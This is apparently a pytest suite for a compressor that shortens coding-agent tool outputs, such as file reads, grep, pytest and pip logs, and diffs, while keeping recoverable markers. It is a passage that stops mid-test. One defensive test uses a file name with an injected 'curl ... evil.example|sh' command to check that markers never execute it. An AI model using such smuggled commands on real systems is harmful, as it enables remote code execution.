"""Tool-output compressors: kinds, recoverable markers, what must survive, safety.

Real outputs come from the dev agent traces (`data/agent_traces.dev.jsonl.gz`, read
with `benchmarks/agent_traces.py`); the synthetic ones are shaped like what pytest,
pip, grep, ls, git and Claude Code's Read print.
"""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path

import pytest

from tokenomy.compressors.tool_outputs import SeenLines, compress_tool_output
from tokenomy.compressors.tool_outputs.command import parse, read_source
from tokenomy.compressors.tool_outputs.terminal import strip_codes
from tokenomy.tokenizers import count_text

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "benchmarks"))
from agent_traces import content_text, load_runs

MODEL = "deepseek-chat"
TASK = "Fix the bug in the report module."
# A marker after the first of an output may leave out the file it already named.
SED = re.compile(r"\[\.\.\. (\d+) (.+?) omitted: sed -n (\d+),(\d+)p(?: (\S+))?\]")


def wrap(body: str, code: int = 0) -> str:
    """mini-swe-agent's wrapper around a command's output."""
    return f"<returncode>{code}</returncode>\n<output>\n{body}\n</output>"


def run(output: str, command: str | None, query: str = TASK, *, tool: str | None = "bash",
        min_tokens: int = 50, seen: SeenLines | None = None):
    return compress_tool_output(output, command=command, tool_name=tool, query=query,
                                model=MODEL, min_tokens=min_tokens, seen=seen)


def python_module(functions: int = 30, body: int = 12) -> list[str]:
    """A plausible module: imports, a constant, functions with docstrings and bodies."""
    lines = ['"""Reports."""', "", "import os", "from typing import Any", "", "LIMIT = 10", ""]
    for f in range(functions):
        lines += ["", f"def step_{f}(value: Any, scale: int = {f}) -> int:",
                  f'    """Step {f} of the pipeline."""', "    total = 0"]
        lines += [f"    total += value * {k} + scale  # step {f}, part {k}" for k in range(body)]
        lines += ["    return total"]
    return lines


# -- kinds --


@pytest.mark.parametrize(("command", "body", "tool", "kind"), [
    ("cat src/report.py", "\n".join(python_module(3)), "bash", "read"),
    ("cd /repo && sed -n '10,40p' src/report.py", "\n".join(python_module(3)), "bash", "read"),
    ("cat -n src/report.py | sed -n '5,20p'", "     5\tx = 1", "bash", "read"),
    (None, "     1→import os", "Read", "read"),
    ("grep -rn 'step_1' src", "src/a.py:3:def step_1():\nsrc/b.py:9:    step_1()", "bash",
     "search"),
    ("ls -la", "total 8\n-rw-r--r-- 1 root root 12 May  6  2025 a.py", "bash", "search"),
    ("git status", "On branch main\nnothing to commit", "bash", "search"),
    ("cd /repo && python -m pytest tests -x 2>&1 | tail -50", "1 passed in 0.1s", "bash", "run"),
    ("pip install -e .", "Successfully installed x-1.0", "bash", "run"),
    ("echo 'select 1' | sqlfluff lint -", "Traceback (most recent call last):\nValueError: x",
     "bash", "run"),
    ("git diff", "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b", "bash", "diff"),
    ("cat fix.patch", "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b", "bash", "diff"),
    ("curl -s localhost/api", '{"items": [1, 2, 3]}', "bash", "json"),
    ("python script.py | grep -v Warning", "result: 3", "bash", "run"),
    ("make-believe --flag", "something happened", "bash", "generic"),
])
def test_kind_detection(command, body, tool, kind):
    result = run(wrap(body), command, tool=tool, min_tokens=10**9)  # floor: only detect
    assert result.kind == kind
    assert result.text == wrap(body)


def test_shell_parsing_finds_the_printing_program_and_the_first_line():
    assert parse("cd /testbed && python -m pytest a.py -xvs 2>&1 | tail -50").program == "pytest"
    assert parse("cat > t.py << 'EOF'\nprint('it''s')\nEOF\npython t.py").program == "python"
    source = read_source(parse("cat pvlib/temperature.py | sed -n '590,620p'"))
    assert source is not None and (source.path, source.first_line) == ("pvlib/temperature.py", 590)
    source = read_source(parse("awk 'NR >= 927 && NR <= 970' ./astroid/x.py"))
    assert source is not None and source.first_line == 927
    # head -650 | tail -100 starts wherever the file's length says: not certain, so None.
    source = read_source(parse("cat a.py | head -650 | tail -100"))
    assert source is not None and source.first_line is None


# -- file reads: line numbers and markers --


def _expand(text: str, file_lines: list[str], path: str) -> tuple[list[str], int]:
    """The output with every `sed -n A,Bp path` marker replaced by what that command
    prints: equal to the original output when the markers name exactly what went. The
    first marker names the file; later ones may leave it out."""
    out: list[str] = []
    markers = 0
    for line in text.split("\n"):
        m = SED.fullmatch(line.strip())
        if m is None:
            out.append(line)
            continue
        count, start, end = int(m.group(1)), int(m.group(3)), int(m.group(4))
        assert (m.group(5) or (path if markers else None)) == path
        assert end - start + 1 == count
        out += file_lines[start - 1 : end]
        markers += 1
    return out, markers


def _contents(lines: list[str]) -> list[str]:
    return [re.sub(r"^\s*\d+(\t|→)", "", line) for line in lines]


def test_sed_read_keeps_printed_lines_verbatim_and_markers_name_the_file_range():
    module = python_module()
    first, last = 41, 300
    body = "\n".join(module[first - 1 : last])
    result = run(wrap(body), f"sed -n '{first},{last}p' src/report.py")
    assert result.kind == "read"
    assert result.tokens_after < result.tokens_before
    text = result.text
    kept = [line for line in text.split("\n") if not line.lstrip().startswith("[...")]
    assert all(line in module for line in kept if line not in ("<output>", "</output>")
               and not line.startswith("<returncode>"))
    expanded, markers = _expand(text, module, "src/report.py")
    assert markers > 0 and expanded == wrap(body).split("\n")
    for e in result.elisions:
        assert e.recover is not None
        m = re.fullmatch(r"sed -n (\d+),(\d+)p src/report.py", e.recover)
        assert m, e.recover
        # The body's line e.first_line is the file's line first + e.first_line - 1.
        assert int(m.group(1)) == first + e.first_line - 1
        assert int(m.group(2)) == first + e.last_line - 1
    # Definitions (the outline) stay; bodies go.
    assert "def step_10(value: Any, scale: int = 10) -> int:" in text
    assert '    """Step 10 of the pipeline."""' in text
    assert "    total += value * 7 + scale  # step 10, part 7" not in text


def test_cat_n_prefixes_stay_and_give_the_range():
    module = python_module()
    body = "\n".join(f"{i:>6}\t{line}" for i, line in enumerate(module, 1))
    result = run(wrap(body), "cat -n src/report.py")
    for line in result.text.split("\n"):
        if re.match(r"^\s*\d+\t", line):
            number, content = line.split("\t", 1)
            assert module[int(number) - 1] == content
    expanded, markers = _expand(result.text, module, "src/report.py")
    assert markers > 0 and _contents(expanded) == _contents(wrap(body).split("\n"))


def test_claude_code_read_format():
    module = python_module()
    body = "\n".join(f"{i:>6}→{line}" for i, line in enumerate(module, 1))
    result = run(body, "Read(file_path='/repo/src/report.py')", tool="Read")
    assert result.kind == "read"
    expanded, markers = _expand(result.text, module, "/repo/src/report.py")
    assert markers > 0 and _contents(expanded) == _contents(body.split("\n"))
    assert "     9→def step_0(value: Any, scale: int = 0) -> int:" in result.text


def test_the_function_the_query_names_stays_whole_and_named_lines_stay():
    module = python_module()
    body = "\n".join(module)
    query = TASK + "\nTHOUGHT: step_17 returns the wrong total; let me read it."
    result = run(wrap(body), "cat src/report.py", query)
    start = module.index("def step_17(value: Any, scale: int = 17) -> int:")
    assert "\n".join(module[start : start + 16]) in result.text
    assert "    total += value * 3 + scale  # step 16, part 3" not in result.text


def test_a_range_keeps_the_definition_it_starts_at_or_inside():
    module = python_module()
    start = module.index("def step_5(value: Any, scale: int = 5) -> int:")
    # Starts at step_5: the agent aimed at it (a range longer than a window it sized).
    body = "\n".join(module[start : start + 200])
    result = run(wrap(body), f"sed -n '{start + 1},{start + 200}p' src/report.py")
    assert "\n".join(module[start : start + 16]) in result.text
    assert "    total += value * 4 + scale  # step 7, part 4" not in result.text
    # Starts inside step_5's body: those lines continue it and stay.
    body = "\n".join(module[start + 6 : start + 206])
    result = run(wrap(body), f"sed -n '{start + 7},{start + 206}p' src/report.py")
    assert "\n".join(module[start + 6 : start + 16]) in result.text
    assert "    total += value * 4 + scale  # step 7, part 4" not in result.text


def test_a_window_the_agent_sized_is_kept_whole():
    # `sed -n A,Bp`, `head -N`, `grep -A N` up to 150 lines: exactly what the agent chose
    # to see; the dev traces' misses were names and line numbers inside such windows.
    module = python_module()
    start = module.index("def step_5(value: Any, scale: int = 5) -> int:")
    body = "\n".join(module[start : start + 90])
    for command in (f"sed -n '{start + 1},{start + 90}p' src/report.py",
                    "cat -n src/report.py | head -90", 'grep -n "step_5" -A 90 src/report.py'):
        result = run(wrap(body), command)
        assert result.text == wrap(body), command


def documented_module() -> list[str]:
    """A module whose functions carry numpy-style docstrings and comment blocks."""
    lines = ["# Copyright (c) 2019 The Authors", "# Licensed under the BSD license.",
             *[f"# Copyright (c) {2010 + k} Contributor Number {k} <contributor{k}@example.org>"
               for k in range(8)],
             "# See LICENSE for details.", "", "import numpy as np", ""]
    for f in range(6):
        lines += [f"def model_{f}(aoi, n={f}.5):", '    r"""',
                  f"    Compute model {f} of the incidence angle modifier.", "",
                  "    Parameters", "    ----------",
                  "    aoi : numeric", "        The angle of incidence in degrees.",
                  "    n : numeric", "        The effective index of refraction.", "",
                  "        The refraction_index of the medium." if f == 3 else "",
                  "    Returns", "    -------", "    iam : numeric",
                  "        The incident angle modifier.", '    """',
                  "    # the cosine is clipped at zero beyond ninety degrees, which",
                  "    # keeps the model defined for every input the callers pass",
                  "    # and matches what the other models in this module do; the",
                  "    # clipping happens before the power so that a negative cosine",
                  "    # never reaches a fractional exponent (which would give nan),",
                  "    # as the references of every model in this module recommend",
                  f"    costheta = np.maximum(0, np.cos(np.radians(aoi)))  # model {f}",
                  "    return costheta ** n", ""]
    return lines


def test_a_window_keeps_its_code_and_drops_the_prose_around_it():
    module = documented_module()
    first = 40  # starts inside model_1's docstring: its closing quotes look like opening
    body = "\n".join(module[first - 1 : first + 99])
    result = run(wrap(body), f"sed -n '{first},{first + 99}p' src/iam.py")
    for line in module[first - 1 : first + 99]:
        if line.lstrip().startswith(("def ", "costheta", "return", "import")):
            assert line in result.text, line
    assert "    Compute model 3 of the incidence angle modifier." in result.text  # summary
    # The window starts in model_1's docstring (short: kept); the later ones go.
    assert result.text.count("        The effective index of refraction.") <= 1
    assert "    # keeps the model defined for every input the callers pass" not in result.text
    assert "docstring lines omitted: sed -n" in result.text
    assert "comment lines omitted: sed -n" in result.text
    expanded, markers = _expand(result.text, module, "src/iam.py")
    assert markers > 0 and expanded == wrap(body).split("\n")
    # A docstring line that names what the agent is after stays.
    result = run(wrap(body), f"sed -n '{first},{first + 99}p' src/iam.py",
                 TASK + " What does `refraction_index` mean? See the docs.")
    assert "        The refraction_index of the medium." in result.text


def test_the_docstring_of_a_definition_the_agent_names_stays():
    # `grep -n "model_4" -A 30`: the agent asked for that function, contract included;
    # the other docstrings in the window still lose their bodies.
    module = documented_module()
    start = module.index("def model_4(aoi, n=4.5):")
    body = "\n".join(f"{start + 1 + k}{':' if k == 0 else '-'}{line}"
                     for k, line in enumerate(module[start : start + 50]))
    result = run(wrap(body), 'grep -n "model_4" -A 49 src/iam.py')
    assert f"{start + 10}-        The effective index of refraction." in result.text
    assert f"{start + 16}-        The incident angle modifier." in result.text
    model_5 = module.index("def model_5(aoi, n=5.5):")
    assert f"{model_5 + 10}-        The effective index of refraction." not in result.text
    assert "docstring lines omitted" in result.text


def test_a_license_header_keeps_its_first_line():
    module = documented_module() + ["def extra():", "    return 1"] * 20
    result = run(wrap("\n".join(module)), "cat src/iam.py")
    assert "# Copyright (c) 2019 The Authors" in result.text
    assert "# See LICENSE for details." not in result.text


def test_an_output_the_harness_cut_is_not_a_window():
    # mini-swe-agent cut a `head -300` to its head and tail: the agent was told to narrow
    # the command, so the outline rules apply although the command sized a window.
    module = python_module(12)
    head, tail = "\n".join(module[:120]), "\n".join(module[-80:])
    output = ("<returncode>0</returncode>\n<warning>\nThe output was too long.\n</warning>"
              f"<output_head>\n{head}\n</output_head>\n<elided_chars>\n9000 characters "
              f"elided\n</elided_chars>\n<output_tail>\n{tail}\n</output_tail>")
    result = run(output, "head -300 src/report.py")
    assert "def step_3(value: Any, scale: int = 3) -> int:" in result.text
    assert "    total += value * 7 + scale  # step 3, part 7" not in result.text


def test_a_dotted_query_name_names_the_definition():
    module = python_module()
    result = run(wrap("\n".join(module)), "cat src/report.py", TASK + " See report.step_12().")
    start = module.index("def step_12(value: Any, scale: int = 12) -> int:")
    assert "\n".join(module[start : start + 16]) in result.text


def test_a_screenful_read_is_kept_whole():
    body = "\n".join(python_module(2, 10))  # under 50 lines
    result = run(wrap(body), "sed -n '1,45p' src/report.py", min_tokens=10)
    assert result.text == wrap(body)


# -- search --


def test_grep_groups_paths_and_keeps_every_match():
    matches = [f"src/pkg/module_{f}.py:{n}:    value = compute_total(x, {n})"
               for f in range(4) for n in range(10, 60, 5)]
    body = "\n".join(matches)
    result = run(wrap(body), "grep -rn compute_total src")
    assert result.kind == "search"
    for f in range(4):
        assert result.text.count(f"src/pkg/module_{f}.py") == 1
    for line in matches:
        number_and_text = line.split(":", 1)[1]
        assert number_and_text in result.text
    assert result.tokens_after < result.tokens_before


def test_many_matches_keep_the_query_ones_and_say_how_to_see_the_rest():
    matches = [f"lib/file_{n % 7}.py:{n}:    call_something({n})" for n in range(200)]
    matches[123] = "lib/file_4.py:123:    special_handler(payload)"
    result = run(wrap("\n".join(matches)), "grep -rn call lib",
                 TASK + "\nLook at special_handler")
    assert "special_handler(payload)" in result.text
    assert "matches omitted: grep -rn call lib | sed -n" in result.text


def test_ls_la_keeps_names_and_sizes_only():
    entries = [f"-rw-r--r-- 1 root root {1000 + i} May  6  2025 file_{i}.py" for i in range(30)]
    body = "total 144\ndrwxrwxrwx 8 root root 4096 May  6  2025 .git\n" + "\n".join(entries)
    result = run(wrap(body), "ls -la")
    assert ".git/" in result.text
    for i in range(30):
        assert f"file_{i}.py  {1000 + i}" in result.text
    assert "rw-r--r--" not in result.text and "root root" not in result.text
    assert "[ls -l permissions, owner and date columns (directories end in /) " \
           "omitted from 31 lines; re-run to see them]" in result.text


# -- runs --


PYTEST_FAILURE = "\n".join([
    "============================= test session starts ==============================",
    "platform linux -- Python 3.11.5, pytest-9.0.3, pluggy-1.6.0",
    "collected 60 items",
    "",
    *[f"tests/test_report.py::test_case_{i} PASSED                     [{i + 1:>3}%]"
      for i in range(58)],
    "tests/test_report.py::test_totals FAILED                     [ 99%]",
    "",
    "=================================== FAILURES ===================================",
    "_________________________________ test_totals __________________________________",
    "",
    "    def test_totals():",
    ">       assert step_3(2) == 10",
    "E       assert 9 == 10",
    "E        +  where 9 = step_3(2)",
    "",
    "tests/test_report.py:42: AssertionError",
    "=========================== short test summary info ============================",
    "FAILED tests/test_report.py::test_totals - assert 9 == 10",
    "========================= 1 failed, 58 passed in 0.40s =========================",
])


def test_pytest_failures_errors_and_summary_survive():
    result = run(wrap(PYTEST_FAILURE, 1), "python -m pytest tests -v")
    assert result.kind == "run"
    for line in PYTEST_FAILURE.split("\n"):
        if line.startswith(("E ", ">", "FAILED", "tests/test_report.py:42")) or "failed" in line:
            assert line in result.text
    assert "[ 12%]" not in result.text  # progress percentages go, with a note
    assert re.search(r"\[progress percentages \(\[ 42%\]\) omitted from \d+ lines",
                     result.text)
    assert any(e.what.startswith("progress percentages") for e in result.elisions)


TRACEBACK = "\n".join([
    "Traceback (most recent call last):",
    '  File "/repo/run.py", line 12, in <module>',
    "    main()",
    "    ^^^^^^",
    '  File "/usr/lib/python3.11/site-packages/click/core.py", line 1485, in __call__',
    "    return self.main(*args, **kwargs)",
    "           ^^^^^^^^^^^^^^^^^^^^^^^^^^",
    '  File "/repo/report.py", line 88, in main',
    "    total = step_3(value)",
    "            ^^^^^^^^^^^^^",
    "ValueError: value must be positive",
])


def test_traceback_keeps_every_frame_and_the_exception():
    body = "\n".join(f"debug: iteration {i} of the main loop is running now" for i in range(80))
    result = run(wrap(body + "\n" + TRACEBACK, 1), "python run.py")
    for line in TRACEBACK.split("\n"):
        if "File" in line or "Error" in line or line.startswith("Traceback"):
            assert line in result.text
    assert "    total = step_3(value)" in result.text  # project frame code stays
    assert "^^^^^^^^^^^^^" not in result.text
    assert "caret lines" in result.text and "library frames" in result.text


LIBRARY_CHAIN = "\n".join([
    "Traceback (most recent call last):",
    '  File "/repo/run_tests.py", line 3, in <module>',
    "    raise SystemExit(pytest.console_main())",
    *[line for k in range(6) for line in (
        f'  File "/opt/conda/lib/python3.11/site-packages/pluggy/_hooks.py", line {500 + k}, '
        f"in hook_{k}",
        f"    return self._hookexec(self.name, impls_{k}, kwargs, firstresult)")],
    '  File "/opt/conda/lib/python3.11/site-packages/_pytest/config/__init__.py", line 1814, '
    "in _getini_toml",
    "    raise TypeError(",
    "TypeError: /repo/pyproject.toml: config option 'testpaths' expects a list, got str",
])


def test_a_chain_of_library_frames_keeps_its_ends():
    result = run(wrap(LIBRARY_CHAIN, 1), "python -m pytest tests | tail -100")
    text = result.text
    assert "TypeError: /repo/pyproject.toml: config option 'testpaths'" in text
    assert '  File "/repo/run_tests.py", line 3, in <module>' in text
    assert "pluggy/_hooks.py\", line 500, in hook_0" in text  # where it entered
    assert "_pytest/config/__init__.py\", line 1814, in _getini_toml" in text  # and raised
    assert "line 503, in hook_3" not in text
    assert re.search(r"\[\.\.\. \d+ lines of library traceback frames omitted: \(?python -m "
                     r"pytest tests \| tail -100\)? \| sed -n \d+,\d+p\]", text)


def test_a_traceback_printed_twice_stays_once_and_long_error_lines_keep_their_ends():
    frames = "\n".join(['Traceback (most recent call last):',
                        *[f'  File "/repo/pkg/module_{k}.py", line {10 * k}, in step_{k}\n'
                          f"    value = step_{k + 1}(value)" for k in range(6)],
                        "TypeError: 'NoneType' object is not subscriptable"])
    dump = "E   [left]:  [" + ", ".join(f"{k * 1.5:.3f}" for k in range(400)) + "]"
    body = "\n".join(["case 1", frames, "case 2", frames, dump])
    result = run(wrap(body, 1), "python check.py")
    assert result.text.count('  File "/repo/pkg/module_3.py", line 30, in step_3') == 1
    assert result.text.count("TypeError: 'NoneType' object is not subscriptable") == 2
    assert "lines repeated from earlier in this output omitted" in result.text
    assert "E   [left]:  [0.000, 1.500" in result.text and "598.500]" in result.text
    assert "300.000" not in result.text
    assert "characters omitted" in result.text


def test_pip_noise_collapses_to_a_summary():
    lines = ["Obtaining file:///repo"]
    for name in ("click", "jinja2", "pyyaml", "pluggy", "pathspec", "toml", "tblib", "chardet"):
        lines += [f"Collecting {name}>=1.0 (from pkg==0.1)",
                  f"  Downloading {name}-1.2.3-py3-none-any.whl.metadata (2.6 kB)"]
    lines += [f"Downloading {n}-1.2.3-py3-none-any.whl (108 kB)" for n in range(8)]
    lines += ["Installing collected packages: click, jinja2, pyyaml",
              "ERROR: pip's dependency resolver does not currently take into account conflicts",
              "Successfully installed click-8.3.2 jinja2-3.1.6 pyyaml-6.0.3"]
    result = run(wrap("\n".join(lines)), "pip install -e .")
    assert "Successfully installed click-8.3.2 jinja2-3.1.6 pyyaml-6.0.3" in result.text
    assert "ERROR: pip's dependency resolver" in result.text
    assert "installer progress lines" in result.text
    assert "Collecting click" not in result.text
    # The packages the command names appear in the summary: their progress lines go too,
    # and so does pip's advice about running as root.
    lines.append("WARNING: Running pip as the 'root' user can result in broken permissions")
    result = run(wrap("\n".join(lines)), "pip install click jinja2")
    assert "Successfully installed click-8.3.2 jinja2-3.1.6 pyyaml-6.0.3" in result.text
    assert "Collecting click" not in result.text and "root" not in result.text
    assert "[1 pip advice line omitted; re-run to see them]" in result.text  # one: "line"
    # Without a summary, a line naming what was asked for is all there is: it stays.
    satisfied = "Requirement already satisfied: click in /usr/lib/python3/dist-packages (8.1)"
    result = run(wrap("\n".join([*lines[:-2], satisfied])), "pip install click")
    assert "Requirement already satisfied: click in /usr/lib/python3/dist-packages" \
        in result.text


def test_pips_advice_goes_from_an_output_of_any_size():
    advice = ("WARNING: Running pip as the 'root' user can result in broken permissions and "
              "conflicting behaviour with the system package manager. It is recommended to use "
              "a virtual environment instead: https://pip.pypa.io/warnings/venv")
    notice = ["[notice] A new release of pip is available: 23.0.1 -> 24.2",
              "[notice] To update, run: pip install --upgrade pip"]
    quiet = wrap("\n".join([advice, *notice]))  # `pip install -q pytz`: nothing else printed
    result = run(quiet, "pip install -q pytz", min_tokens=300)
    assert result.text == wrap("[3 pip advice lines omitted; re-run to see them]")
    assert result.tokens_after < result.tokens_before
    assert [(e.lines, e.recover) for e in result.elisions] == [(3, "pip install -q pytz")]
    # What pip said about the install itself stays, under the floor as above it.
    retry = "WARNING: Retrying (Retry(total=4)) after connection broken by 'SSLError'"
    result = run(wrap("\n".join([retry, advice])), "pip install pytz", min_tokens=300)
    assert retry in result.text and "root" not in result.text
    # Anything else under the floor comes back as it was.
    short = wrap("Successfully installed pytz-2024.1")
    assert run(short, "pip install pytz", min_tokens=300).text == short


def test_terminal_escape_codes_go_from_outputs_of_any_size():
    red, green, bold, reset = "\x1b[31m", "\x1b[32m", "\x1b[1m", "\x1b[0m"
    rule = "=" * 29
    lines = [f"{bold}{rule} test session starts {rule}{reset}",
             "platform linux -- Python 3.11.5, pytest-8.3.2, pluggy-1.5.0",
             "rootdir: /repo",
             *[f"tests/test_calc.py::test_case_{k} {green}PASSED{reset}" for k in range(30)],
             f"tests/test_calc.py::test_totals {red}FAILED{reset}",
             f"{red}E       assert 151 == 150{reset}",
             f"{red}{rule} 1 failed, 30 passed in 0.42s {rule}{reset}"]
    result = run(wrap("\n".join(lines)), "pytest --color=yes tests/test_calc.py")
    assert "\x1b" not in result.text and result.kind == "run"  # detected from the plain text
    assert "tests/test_calc.py::test_totals FAILED" in result.text
    assert "E       assert 151 == 150" in result.text
    assert "[terminal escape codes omitted from 34 lines; re-run to see them]" in result.text
    assert any(e.what.startswith("terminal escape codes") and
               e.recover == "pytest --color=yes tests/test_calc.py" for e in result.elisions)
    # Under the floor too: `ls --color` of a few files, an OSC hyperlink, a cursor move.
    short = wrap(f"{bold}\x1b[34msrc{reset}  \x1b]8;;file:///repo/a.py\x07a.py\x1b]8;;\x07"
                 "\x1b[2K  b.py")
    result = run(short, "ls --color=always", min_tokens=300)
    assert result.text == wrap("src  a.py  b.py\n[terminal escape codes omitted from 1 line; "
                               "re-run to see them]")
    assert result.tokens_after < result.tokens_before
    # An OSC without its end loses only its two bytes, never the text after it.
    assert strip_codes("\x1b]title text after\x1b[0m") == ("title text after", 1)
    # An escape that is no sequence stays; hostile runs of codes cost linear time.
    import time

    started = time.perf_counter()
    for body in ("\x1b[" + "1;" * 100_000, "\x1b]" * 100_000, ("\x1b[1m" * 50_000) + "ok"):
        result = run(wrap(body), "./build.sh")
        assert "\x1b[1m" not in result.text
    assert time.perf_counter() - started < 5


def test_repeated_lines_and_progress_fold():
    body = "\n".join(["Starting"] + ["retrying connection to db:5432 ..."] * 30
                     + [f"{p}%|{'#' * (p // 10)}| {p}/100" for p in range(0, 101, 5)] + ["done"])
    result = run(wrap(body), "./deploy.sh")
    assert result.text.count("retrying connection to db:5432 ...") == 1
    assert "100%|##########| 100/100" in result.text
    assert "50%|#####| 50/100" not in result.text


# -- diffs --


def test_a_diffstat_keeps_files_and_counts_not_the_bars():
    files = [f"src/pkg/{name}.py" for name in (
        "builder", "manager", "modutils", "context", "helpers", "inference", "mixins",
        "protocols", "raw_building", "arguments", "bases", "objectmodel")]
    body = ["commit 0123456789abcdef0123456789abcdef01234567", "Author: A <a@example.org>",
            "", "    Fix the resolver", ""]
    body += [f" {path:<40} | {3 * k + 1:3d} {'+' * (2 * k + 1)}{'-' * k}"
             for k, path in enumerate(files)]
    body += [" docs/logo.png                            | Bin 0 -> 1200 bytes",
             " 13 files changed, 210 insertions(+), 66 deletions(-)"]
    result = run(wrap("\n".join(body)), "git show 0123456 --stat")
    assert " src/pkg/inference.py | 16" in result.text
    assert "+++++" not in result.text
    assert " docs/logo.png                            | Bin 0 -> 1200 bytes" in result.text
    assert " 13 files changed, 210 insertions(+), 66 deletions(-)" in result.text
    assert "[diffstat padding and +/- bars omitted from 12 lines; re-run to see them]" \
        in result.text


def test_hostile_lines_cost_linear_time():
    # A long run of spaces is where a careless pattern backtracks quadratically (a
    # diffstat row, a numbered line); 150,000 of them must stay far under a second.
    import time

    hostile = " a" + " " * 150_000 + "x"
    body = "\n".join([" src/a.py | 3 ++-", " src/b.py | 1 +", " src/c.py | 2 --",
                      hostile + " |"])  # under the size past which only cheap rules run
    started = time.perf_counter()
    result = run(wrap(body), "git show HEAD --stat", seen=SeenLines([hostile]))
    assert time.perf_counter() - started < 5
    assert " src/a.py | 3" in result.text
    # A test run's line ending like a pytest percentage; a grep match on one long word.
    for line, command in (("x" + " " * 150_000 + "y%]", "pytest -x"),
                          ("a" * 150_000, "grep -rn foo ."),
                          ("src/a.py:3:" + "a" * 150_000, "grep -rn foo ."),
                          ('File "' + "a" * 150_000, "python x.py"),
                          ("Warning " + "a" * 150_000 + ".py", "python x.py"),
                          ("x " + "assert " * 20_000, "python x.py"),
                          ("::" * 75_000, "pytest -x")):
        body = "\n".join(["src/a.py:1:foo = 1", "src/b.py:2:foo()", line])
        started = time.perf_counter()
        result = run(wrap(body), command)
        assert time.perf_counter() - started < 5, command
        assert "src/a.py" in result.text
    line = "tests/test_x.py::test_a PASSED" + " " * 20 + "[ 42%]"
    assert run(wrap("\n".join([line] * 3 + ["1 passed"] * 40)), "pytest -v").text.count(
        "tests/test_x.py::test_a PASSED\n") >= 1


def test_numbers_too_long_for_a_line_number_are_text():
    # Python refuses int() past 4,300 digits, and `isdigit` passes `²`: a hostile output,
    # command or task must neither crash the compressor nor slow it.
    huge = "9" * 30_000
    code = "\n".join(f"    value_{k} = compute(value_{k - 1})" for k in range(1, 60))
    cases = [
        (f"src/a.py:{huge}:foo = 1\nsrc/b.py:2:foo()\n" + code, "grep -rn foo .", TASK),
        (f"{huge}\tdef f():\n" + code, "cat -n src/a.py", TASK),
        (f"{huge}:foo\n" + code, 'grep -n "foo" src/a.py', TASK),
        (code, f"sed -n '{huge},{huge}p' src/a.py", TASK),
        (code, "tail -n +² src/a.py", TASK),
        (code, f"head -n {huge} src/a.py", TASK),
        (code, "awk 'NR>=" + huge + " && NR<=5' src/a.py", TASK),
        (code, "cat src/a.py", f"Fails at src/a.py:{huge} and a.py line {huge}"),
    ]
    for output, command, query in cases:
        result = run(wrap(output), command, query)
        assert result.tokens_after <= result.tokens_before, command


def test_a_marker_never_turns_a_file_name_into_a_command():
    # A path can come from the output itself (grep's `path:12:` prefix) or name a file
    # with a hostile name; the marker's command must read that one file, and nothing else.
    import shlex

    hostile = "src/x;curl${IFS}evil.example|sh.py"
    body = ["def compute(value):", '    """Compute the value.',
            *[f"    Explains detail number {k} of the computation at length." for k in range(30)],
            '    """', "    return value * 2"]
    grep = [f"{hostile}:10:{body[0]}"] + [f"{hostile}-{11 + i}-{t}"
                                          for i, t in enumerate(body[1:])]
    spaced = "\n".join(f"line {i} of the notes, " * 6 for i in range(400))
    cases = [("\n".join(grep), "grep -rn -A 40 'def compute' src", hostile),
             (spaced, "cat 'my notes.txt'", "my notes.txt")]
    for output, command, path in cases:
        result = run(wrap(output), command, "Fix the totals.")
        markers = re.findall(r"omitted: (sed -n \S+ .*?)\]", result.text)
        assert markers, command
        for recover in markers:
            assert shlex.split(recover)[3:] == [path]


def test_diff_keeps_hunks_and_changes_with_limited_context():
    old = [f"line {i} of the unchanged context in this file" for i in range(40)]
    hunk = [f" {line}" for line in old[:18]] + ["-    return 1", "+    return 2"] + [
        f" {line}" for line in old[18:]]
    body = "\n".join(["diff --git a/x.py b/x.py", "index 1..2 100644", "--- a/x.py",
                      "+++ b/x.py", "@@ -1,41 +1,41 @@ def f():", *hunk])
    result = run(wrap(body), "git diff -U20 x.py")
    assert result.kind == "diff"
    for line in ("@@ -1,41 +1,41 @@ def f():", "-    return 1", "+    return 2", "+++ b/x.py"):
        assert line in result.text
    assert " line 17 of the unchanged context in this file" in result.text
    assert " line 2 of the unchanged context in this file" not in result.text
    assert "unchanged context lines omitted" in result.text


# -- JSON --


def test_json_is_compacted_valid_and_keeps_errors():
    items = [{"id": i, "status": "ok", "latency_ms": 10 + i % 7} for i in range(60)]
    items[37] = {"id": 37, "status": "error", "error": "timeout talking to db"}
    body = json.dumps({"items": items}, indent=2)
    result = run(body, "curl -s localhost/api/items")
    assert result.kind == "json"
    value = json.loads(result.text)
    kept = [x for x in value["items"] if isinstance(x, dict)]
    assert {"id": 37, "status": "error", "error": "timeout talking to db"} in kept
    assert any(isinstance(x, str) and "items omitted" in x for x in value["items"])


# -- safety --


def test_below_the_floor_nothing_changes():
    body = "\n".join(python_module(3))
    result = run(wrap(body), "cat src/report.py", min_tokens=10**6)
    assert result.text == wrap(body)
    assert result.tokens_after == result.tokens_before
    assert result.elisions == []


def test_wrappers_are_kept_byte_for_byte():
    head = "\n".join(python_module(20))
    tail = "\n".join(python_module(20)[-200:])
    output = ("<returncode>0</returncode>\n<warning>\nThe output was too long.\n</warning>"
              f"<output_head>\n{head}\n</output_head>\n<elided_chars>\n9000 characters elided\n"
              f"</elided_chars>\n<output_tail>\n{tail}\n</output_tail>")
    result = run(output, "cat src/report.py")
    assert result.text.startswith("<returncode>0</returncode>\n<warning>\nThe output was too "
                                  "long.\n</warning><output_head>\n")
    assert "\n</output_head>\n<elided_chars>\n9000 characters elided\n</elided_chars>\n" \
           "<output_tail>\n" in result.text
    assert result.text.endswith("\n</output_tail>")
    assert result.tokens_after < result.tokens_before


def _trace_outputs(limit_runs: int = 4):
    for trace in load_runs(limit=limit_runs):
        task = next(content_text(m) for m in trace.messages if m.get("role") == "user")
        for i, message in enumerate(trace.messages):
            if message.get("role") == "tool":
                yield trace, i, content_text(message), trace.tool_command(i), task


def test_real_trace_outputs_never_grow_are_deterministic_and_keep_errors():
    changed = 0
    for _trace, _i, output, command, task in _trace_outputs():
        first = run(output, command, task, min_tokens=200)
        second = run(output, command, task, min_tokens=200)
        assert first.text == second.text
        assert first.tokens_after <= first.tokens_before
        assert count_text(first.text, MODEL) == first.tokens_after
        if first.text != output:
            changed += 1
            assert first.text.startswith("<returncode>")
            for line in output.split("\n"):
